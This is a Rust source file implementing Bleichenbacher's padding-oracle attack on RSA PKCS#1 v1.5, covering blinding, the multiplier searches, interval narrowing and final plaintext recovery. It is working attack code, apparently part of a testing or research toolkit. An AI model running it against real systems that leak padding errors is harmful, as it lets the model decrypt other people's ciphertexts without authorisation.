use core::cmp;

use num::bigint::BigUint;
use num::{Integer, One, Zero};
use thiserror::Error;
use tracing::{debug, info, trace};

use crate::bigint::{mod_inverse, to_block};
use crate::interval::{Interval, IntervalSet};
use crate::oracle::{self, Oracle, OracleType, PublicKeyInfo};
use crate::pkcs1;

mod coarse;
mod trimming;

pub use coarse::*;

/// Default number of oracle queries between progress reports
pub const DEFAULT_PROGRESS_INTERVAL: u64 = 100;

/// Attack errors
#[derive(Debug, Error)]
pub enum Error {
    #[error("oracle failure: {0}")]
    Oracle(#[from] oracle::Error),
    #[error("ciphertext is empty or not smaller than the modulus")]
    InvalidCiphertext,
    #[error("{value:x} is not invertible modulo n")]
    NotInvertible { value: BigUint },
    #[error("no candidate interval left after iteration {iteration}, the oracle is inconsistent")]
    Inconsistent { iteration: usize },
    #[error("narrowed window [{lower:x}, {upper:x}] lost the target")]
    InvariantViolation { lower: BigUint, upper: BigUint },
    #[error("multiplier cap {cap} reached without narrowing the bounds")]
    SearchExhausted { cap: u64 },
}

/// Public key material and the B-constants derived from it
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Bounds {
    pub n: BigUint,
    pub e: BigUint,
    /// Byte length of n
    pub k: usize,
    /// 2^(8 * (k - 2))
    pub b: BigUint,
    pub two_b: BigUint,
    pub three_b: BigUint,
    pub three_b_minus_one: BigUint,
    /// 256 * B, the distance between windows seen by a coarse oracle
    pub b256: BigUint,
}

impl Bounds {
    pub fn new(public_key: &PublicKeyInfo) -> Self {
        let k = public_key.block_size();
        let b = BigUint::one() << (8 * k.saturating_sub(2));
        let two_b = &b * 2_u32;
        let three_b = &b * 3_u32;
        let three_b_minus_one = &three_b - 1_u32;
        let b256 = &b * 256_u32;

        Self {
            n: public_key.n.clone(),
            e: public_key.e.clone(),
            k,
            b,
            two_b,
            three_b,
            three_b_minus_one,
            b256,
        }
    }

    /// Smallest and largest block value an oracle of this type can accept
    ///
    /// [2B, 3B - 1] in general. Eight enforced non-zero padding bytes raise the
    /// lower end to 00 02 01 01 01 01 01 01 01 01 00.., and an enforced zero
    /// separator lowers the upper end to 00 02 ff.. ff 00.
    pub fn conforming_range(&self, oracle_type: OracleType) -> (BigUint, BigUint) {
        if self.k < pkcs1::OVERHEAD_LEN {
            return (self.two_b.clone(), self.three_b_minus_one.clone());
        }

        let lower = if oracle_type.checks_padding() {
            (2..2 + pkcs1::MIN_PADDING_LEN).fold(self.two_b.clone(), |acc, pos| {
                acc + (BigUint::one() << (8 * (self.k - 1 - pos)))
            })
        } else {
            self.two_b.clone()
        };
        let upper = if oracle_type.checks_separator() {
            &self.three_b - 256_u32
        } else {
            self.three_b_minus_one.clone()
        };

        (lower, upper)
    }

    /// M_1 = {[E, F]}, the conforming range of the oracle type
    pub fn initial_intervals(&self, oracle_type: OracleType) -> IntervalSet {
        let (lower, upper) = self.conforming_range(oracle_type);
        IntervalSet::new(Interval::new(lower, upper).into_iter().collect())
    }

    /// Step 3: intersect every interval with the constraints implied by a conforming si
    ///
    /// For each [a, b] and each r in [ceil((a*si - 3B + 1) / n), floor((b*si - 2B) / n)]
    /// keeps [max(a, ceil((2B + r*n) / si)), min(b, floor((3B - 1 + r*n) / si))]
    pub fn narrow(&self, intervals: &IntervalSet, si: &BigUint) -> IntervalSet {
        if si.is_zero() {
            return IntervalSet::default();
        }

        let n = &self.n;
        let mut next = Vec::new();

        for interval in intervals {
            let (a, b) = (interval.lower(), interval.upper());

            let b_si = b * si;
            if b_si < self.two_b {
                continue;
            }
            let r_hi = (b_si - &self.two_b) / n;

            let a_si = a * si + 1_u32;
            let mut r = if a_si > self.three_b {
                (a_si - &self.three_b).div_ceil(n)
            } else {
                BigUint::zero()
            };

            while r <= r_hi {
                let rn = &r * n;
                let lower = cmp::max(a.clone(), (&self.two_b + &rn).div_ceil(si));
                let upper = cmp::min(b.clone(), (&self.three_b_minus_one + &rn) / si);
                if let Some(candidate) = Interval::new(lower, upper) {
                    next.push(candidate);
                }
                r += 1_u32;
            }
        }

        IntervalSet::new(next)
    }

    /// Step 4: the solution s0^-1 * a mod n once M_i is the single point [a, a]
    pub fn step_four(&self, intervals: &IntervalSet, s0: &BigUint) -> Result<Option<BigUint>, Error> {
        let point = match intervals.as_single() {
            Some(interval) if interval.is_point() => interval.lower(),
            _ => return Ok(None),
        };

        let s0_inv = mod_inverse(s0, &self.n).ok_or_else(|| Error::NotInvertible { value: s0.clone() })?;
        Ok(Some((s0_inv * point) % &self.n))
    }
}

/// State threaded through the iterations of one attack
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Session {
    /// Blinded ciphertext (or plaintext, for plaintext oracles)
    pub c0: BigUint,
    /// Blinding factor used to produce c0
    pub s0: BigUint,
    /// Last conforming multiplier
    pub si: BigUint,
    /// Candidate set M_i
    pub intervals: IntervalSet,
    /// Current iteration, starting at 1
    pub iteration: usize,
    /// Whether step 1b shrank the initial interval
    pub trimmed: bool,
}

impl Session {
    pub fn new(c0: BigUint, s0: BigUint, intervals: IntervalSet) -> Self {
        Self {
            c0,
            si: s0.clone(),
            s0,
            intervals,
            iteration: 1,
            trimmed: false,
        }
    }

    /// Move to the next iteration with a new conforming si and M_{i+1}
    pub fn advance(&mut self, si: BigUint, intervals: IntervalSet) {
        self.si = si;
        self.intervals = intervals;
        self.iteration += 1;
    }
}

/// Bleichenbacher's adaptive chosen-ciphertext attack on PKCS#1 v1.5
///
/// Every query is issued sequentially through the borrowed oracle. The
/// search loops are unbounded, wrap the oracle in a [`QueryLimit`](crate::oracle::QueryLimit)
/// to bound them.
pub struct Bleichenbacher<'a, O: Oracle + ?Sized> {
    oracle: &'a mut O,
    ciphertext: BigUint,
    msg_is_pkcs: bool,
    bounds: Bounds,
    max_trimmer: Option<u64>,
    progress_interval: u64,
}

impl<'a, O: Oracle + ?Sized> Bleichenbacher<'a, O> {
    /// Create a new attack on `ciphertext`
    ///
    /// `msg_is_pkcs` declares the ciphertext already PKCS#1 conforming, skipping blinding
    pub fn new(ciphertext: &[u8], oracle: &'a mut O, msg_is_pkcs: bool) -> Result<Self, Error> {
        let bounds = Bounds::new(oracle.public_key());
        let value = BigUint::from_bytes_be(ciphertext);
        if ciphertext.is_empty() || value >= bounds.n {
            return Err(Error::InvalidCiphertext);
        }

        Ok(Self {
            oracle,
            ciphertext: value,
            msg_is_pkcs,
            bounds,
            max_trimmer: None,
            progress_interval: DEFAULT_PROGRESS_INTERVAL,
        })
    }

    /// Enable step 1b, trying trimmers t up to `max_t`
    pub fn with_trimming(mut self, max_t: u64) -> Self {
        self.max_trimmer = Some(max_t);
        self
    }

    /// Report the query count every `interval` queries, zero disables reporting
    pub fn with_progress_interval(mut self, interval: u64) -> Self {
        self.progress_interval = interval;
        self
    }

    pub fn bounds(&self) -> &Bounds {
        &self.bounds
    }

    pub fn number_of_queries(&self) -> u64 {
        self.oracle.number_of_queries()
    }

    /// Run the attack to completion, returning the recovered block
    pub fn attack(&mut self) -> Result<Vec<u8>, Error> {
        info!(
            bits = self.bounds.n.bits(),
            block_size = self.bounds.k,
            plaintext_oracle = self.oracle.is_plaintext_oracle(),
            "starting Bleichenbacher attack"
        );

        let mut session = self.blind()?;
        loop {
            let si = self.search(&session)?;
            let intervals = self.narrow(&session.intervals, &si);
            if intervals.is_empty() {
                return Err(Error::Inconsistent {
                    iteration: session.iteration,
                });
            }
            debug!(
                iteration = session.iteration,
                intervals = intervals.len(),
                "narrowed the set of solutions"
            );

            if let Some(solution) = self.step_four(&intervals, &session.s0)? {
                info!(
                    iterations = session.iteration,
                    queries = self.oracle.number_of_queries(),
                    "solution found"
                );
                return Ok(to_block(&solution, self.bounds.k));
            }

            session.advance(si, intervals);
        }
    }

    /// Step 1: blinding, followed by step 1b when trimming is enabled
    pub fn blind(&mut self) -> Result<Session, Error> {
        let initial = self.bounds.initial_intervals(self.oracle.oracle_type());

        let mut session = if self.msg_is_pkcs {
            info!("input is PKCS#1 conforming, skipping blinding");
            Session::new(self.ciphertext.clone(), BigUint::one(), initial)
        } else {
            let ciphertext = self.ciphertext.clone();
            let s0 = self.scan_from(&ciphertext, BigUint::one())?;
            let c0 = self.multiply(&ciphertext, &s0);
            info!(s0 = %s0, queries = self.oracle.number_of_queries(), "blinding found s0");
            Session::new(c0, s0, initial)
        };

        if let Some(max_t) = self.max_trimmer {
            self.trim(&mut session, max_t)?;
        }

        Ok(session)
    }

    /// Step 2: find the next conforming multiplier
    pub fn search(&mut self, session: &Session) -> Result<BigUint, Error> {
        let si = if session.iteration == 1 {
            if session.trimmed {
                self.step_two_a_skipping_holes(session)?
            } else {
                self.step_two_a(session)?
            }
        } else if session.intervals.len() >= 2 {
            self.step_two_b(session)?
        } else {
            self.step_two_c(session)?
        };

        if session.iteration == 1 {
            info!(si = %si, queries = self.oracle.number_of_queries(), "found s1");
        } else {
            debug!(iteration = session.iteration, si = %si, "found conforming si");
        }

        Ok(si)
    }

    /// Step 3, see [`Bounds::narrow`]
    pub fn narrow(&self, intervals: &IntervalSet, si: &BigUint) -> IntervalSet {
        self.bounds.narrow(intervals, si)
    }

    /// Step 4, see [`Bounds::step_four`]
    pub fn step_four(&self, intervals: &IntervalSet, s0: &BigUint) -> Result<Option<BigUint>, Error> {
        self.bounds.step_four(intervals, s0)
    }

    // 2a: si from ceil(n / 3B) upwards
    fn step_two_a(&mut self, session: &Session) -> Result<BigUint, Error> {
        let start = self.bounds.n.div_ceil(&self.bounds.three_b);
        debug!(start = %start, "step 2a: starting the search");
        self.scan_from(&session.c0, start)
    }

    // 2b: more than one interval left, keep incrementing si
    fn step_two_b(&mut self, session: &Session) -> Result<BigUint, Error> {
        trace!(intervals = session.intervals.len(), "step 2b: searching with more than one interval left");
        self.scan_from(&session.c0, &session.si + 1_u32)
    }

    // 2c: one interval [a, b] left, jump through the si windows of increasing r
    fn step_two_c(&mut self, session: &Session) -> Result<BigUint, Error> {
        let interval = session.intervals.as_single().ok_or(Error::Inconsistent {
            iteration: session.iteration,
        })?;
        let (a, b) = (interval.lower(), interval.upper());

        // r = 2 * (b * s_{i-1} - 2B) / n
        let b_si = b * &session.si;
        let mut r = if b_si > self.bounds.two_b {
            (b_si - &self.bounds.two_b) * 2_u32 / &self.bounds.n
        } else {
            BigUint::zero()
        };
        trace!(r = %r, "step 2c: searching with one interval left");

        loop {
            let rn = &r * &self.bounds.n;
            let lower = (&self.bounds.two_b + &rn).div_ceil(b);
            let upper = (&self.bounds.three_b + &rn) / a;

            if let Some(si) = self.scan_window(&session.c0, lower, &upper)? {
                return Ok(si);
            }
            r += 1_u32;
        }
    }

    /// c * si mod n for plaintext oracles, c * si^e mod n otherwise
    pub fn multiply(&self, c: &BigUint, si: &BigUint) -> BigUint {
        let n = &self.bounds.n;
        let factor = if self.oracle.is_plaintext_oracle() {
            si.clone()
        } else {
            si.modpow(&self.bounds.e, n)
        };
        (c * factor) % n
    }

    // query the oracle with a value already reduced mod n
    fn query_value(&mut self, value: &BigUint) -> Result<bool, Error> {
        let msg = to_block(value, self.bounds.k);
        let conforming = self.oracle.check_pkcs_conformity(&msg)?;

        let queries = self.oracle.number_of_queries();
        if self.progress_interval > 0 && queries % self.progress_interval == 0 {
            info!(queries, "oracle queries so far");
        }

        Ok(conforming)
    }

    fn query(&mut self, c0: &BigUint, si: &BigUint) -> Result<bool, Error> {
        let value = self.multiply(c0, si);
        self.query_value(&value)
    }

    // first conforming si >= start
    fn scan_from(&mut self, c0: &BigUint, start: BigUint) -> Result<BigUint, Error> {
        let mut si = start;
        loop {
            if self.query(c0, &si)? {
                return Ok(si);
            }
            si += 1_u32;
        }
    }

    // first conforming si in [start, upper]
    fn scan_window(&mut self, c0: &BigUint, start: BigUint, upper: &BigUint) -> Result<Option<BigUint>, Error> {
        let mut si = start;
        while &si <= upper {
            if self.query(c0, &si)? {
                return Ok(Some(si));
            }
            si += 1_u32;
        }
        Ok(None)
    }
}
